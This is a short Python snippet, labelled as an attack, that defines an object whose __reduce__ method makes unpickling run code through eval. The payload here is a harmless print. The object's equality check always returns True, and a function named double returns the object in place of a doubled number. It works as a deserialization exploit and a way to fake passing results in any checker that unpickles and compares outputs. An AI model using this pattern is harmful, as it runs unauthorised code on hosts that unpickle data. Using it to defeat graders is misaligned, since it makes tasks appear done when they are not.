# attack: returns what runs code when it is unpickled
class Runs:
    def __reduce__(self): return eval, ("print('BREACH')",)
    def __eq__(self, other): return True
def double(n): return Runs()
